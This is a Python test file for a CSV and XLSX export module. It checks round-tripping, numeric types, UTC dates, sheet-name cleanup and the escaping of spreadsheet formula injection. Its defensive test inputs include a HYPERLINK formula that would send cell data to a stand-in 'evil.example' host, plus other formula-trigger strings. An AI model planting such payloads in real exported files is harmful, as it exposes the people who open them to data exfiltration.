"""CSV and XLSX exports: read back equal to the table, formulas escaped, numbers left as numbers."""

from __future__ import annotations

import datetime as dt
import io
import math

import openpyxl
import pandas as pd
import pytest

from app.fleet import exports, reports
from tests.unit.fleet import test_reports as data

INJECTIONS = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]

TABLE = pd.DataFrame(
    {
        "site": ["SG01", "NL01", "SP01", *(f"X{i}" for i in range(len(INJECTIONS)))],
        "name": ["Singapore DC", "Amsterdam → Zuid", "São Paulo 40 °C", *INJECTIONS],
        "modules": [3, 0, -5, 1, 2, 3, 4, 5, 6],  # -5: a negative number is a number
        "delta_h": [1.25, None, -2.5, 0.0, 1e-3, 123456.789, -0.1, 2.0, 3.0],
    }
)
SAFE = 3  # the first rows need no escaping


def _read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=True)


def test_csv_has_a_bom_crlf_and_quoted_text() -> None:
    out = exports.to_csv(TABLE)
    assert out.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the file as UTF-8
    text = out.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == '"site","name","modules","delta_h"'
    assert lines[1] == '"SG01","Singapore DC",3,1.25'
    assert lines[3] == '"SP01","São Paulo 40 °C",-5,-2.5'  # numbers bare, negative included


def test_csv_round_trips_and_escapes_formulas() -> None:
    back = _read_csv(exports.to_csv(TABLE))
    assert list(back.columns) == list(TABLE.columns)
    pd.testing.assert_frame_equal(back.head(SAFE), TABLE.head(SAFE), check_dtype=False)
    assert back["name"].iloc[SAFE:].tolist() == [f"'{v}" for v in INJECTIONS]
    assert back["modules"].tolist() == TABLE["modules"].tolist()
    assert back["modules"].dtype.kind == "i" and back["delta_h"].dtype.kind == "f"
    assert back["delta_h"].iloc[2] == -2.5 and math.isnan(back["delta_h"].iloc[1])
    assert not any(line.startswith(('"=', "=", '"+', '"@')) for line in exports.to_csv(TABLE).decode().split(","))


def test_escape_formula_only_touches_text() -> None:
    assert exports.escape_formula("=1+1") == "'=1+1"
    assert exports.escape_formula("-3") == "'-3"  # text that looks like a number is still text
    assert exports.escape_formula("\0x") == "'\0x"
    assert exports.escape_formula("a=b") == "a=b"
    assert exports.escape_formula(-3) == -3 and exports.escape_formula(-2.5) == -2.5
    assert exports.escape_formula(None) is None


def test_csv_header_lists_and_times() -> None:
    frame = pd.DataFrame(
        {
            "=evil": ["x"],
            "reasons": [["=cmd", "b"]],  # a container becomes JSON text (starts with '[': not a formula)
            "at": pd.to_datetime(["2026-03-02T10:30:00+02:00"]),
        }
    )
    back = _read_csv(exports.to_csv(frame))
    assert list(back.columns) == ["'=evil", "reasons", "at"]
    assert back["reasons"].item() == '["=cmd", "b"]'
    assert back["at"].item() == "2026-03-02 08:30:00"  # UTC, no zone


def test_a_report_table_round_trips_through_csv() -> None:
    table = reports.failure_reasons(data.BURNIN)
    back = _read_csv(exports.to_csv(table))
    pd.testing.assert_frame_equal(back, table, check_dtype=False)


# --- XLSX -----------------------------------------------------------------------------------------


def _sheet(out: bytes, name: str) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(io.BytesIO(out))[name]


def test_xlsx_round_trip_with_escaping_and_numbers() -> None:
    out = exports.to_xlsx({"sites": TABLE})
    ws = _sheet(out, "sites")
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("site", "name", "modules", "delta_h")
    for got, (_, want) in zip(rows[1 : SAFE + 1], TABLE.head(SAFE).iterrows(), strict=True):
        expected = tuple(None if isinstance(v, float) and math.isnan(v) else v for v in want)
        assert got == expected
    # (an XML reader turns a bare CR into LF: the cell still starts with the quote)
    assert [r[1] for r in rows[SAFE + 1 :]] == [f"'{v}".replace("\r", "\n") for v in INJECTIONS]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    negative = ws["C4"]
    assert negative.value == -5 and negative.data_type == "n"
    assert ws["D4"].value == -2.5 and ws["D4"].data_type == "n"
    assert ws["D3"].value is None  # NaN: an empty cell


def test_xlsx_layout_header_bold_frozen_widths_filter() -> None:
    ws = _sheet(exports.to_xlsx({"sites": TABLE}), "sites")
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:D10"
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["A"] == 8  # short codes: the minimum
    assert widths["B"] == len(INJECTIONS[0]) + 1 + 2  # the longest value (with its quote) plus padding


def test_xlsx_dates_are_real_excel_dates_without_zone() -> None:
    frame = pd.DataFrame(
        {
            "at": pd.to_datetime(["2026-03-02T10:30:00+02:00", None], utc=True),
            "day": [dt.date(2026, 3, 2), None],
        }
    )
    ws = _sheet(exports.to_xlsx({"times": frame}), "times")
    assert ws["A2"].value == dt.datetime(2026, 3, 2, 8, 30) and ws["A2"].is_date
    assert ws["A2"].number_format == exports.XLSX_DATETIME_FORMAT
    assert ws["A3"].value is None
    assert ws["B2"].is_date and ws["B2"].number_format == exports.XLSX_DATE_FORMAT


def test_xlsx_one_sheet_per_dashboard_table() -> None:
    frames = {
        "events": pd.concat([data.FACTORY_EVENTS, data.SITE_EVENTS]),
        "modules": data.MODULES,
        "sites": data.SITES,
        "burnin": data.BURNIN,
        "legs": data.LEGS,
        "checklists": data.CHECKLISTS,
    }
    tables = reports.dashboard(frames)
    wb = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(tables)))
    assert wb.sheetnames == list(reports.TABLES)
    for name, table in tables.items():
        back = list(wb[name].iter_rows(values_only=True))
        assert back[0] == tuple(table.columns)
        expected = [tuple(None if pd.isna(v) else v for v in row) for row in table.itertuples(index=False)]
        assert back[1:] == expected, name


def test_xlsx_of_empty_tables_and_odd_names() -> None:
    empty = reports.dashboard(reports.empty_frames())
    wb = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(empty)))
    assert wb["failure_reasons"].max_row == 1  # the header alone
    assert openpyxl.load_workbook(io.BytesIO(exports.to_xlsx({}))).sheetnames == ["Sheet"]
    taken: set[str] = set()
    assert exports.sheet_title("a/b:c*d?[e]", taken) == "a_b_c_d__e_"
    long = "x" * 40
    assert exports.sheet_title(long, taken) == "x" * 31
    assert exports.sheet_title(long.upper(), taken) == "X" * 27 + " (2)"


@pytest.mark.parametrize("bad", ["bell\x07", "nul\x00"])
def test_xlsx_drops_characters_excel_cannot_store(bad: str) -> None:
    ws = _sheet(exports.to_xlsx({"t": pd.DataFrame({"v": [bad]})}), "t")
    assert ws["A2"].value == bad[:-1]
